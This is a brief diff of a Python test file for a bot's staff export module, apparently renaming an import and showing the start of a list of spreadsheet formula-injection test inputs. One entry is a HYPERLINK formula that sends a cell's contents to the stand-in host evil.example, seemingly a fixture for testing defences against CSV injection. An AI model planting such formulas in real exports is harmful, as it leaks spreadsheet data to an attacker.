@@ -9,7 +9,7 @@ import io
 import pytest
 
 from bot.staff import export
-from bot.store import Store
+from bot.storage import Store
 
 FORMULAS = [
     '=HYPERLINK("http://evil.example/?x="&A1,"click")',
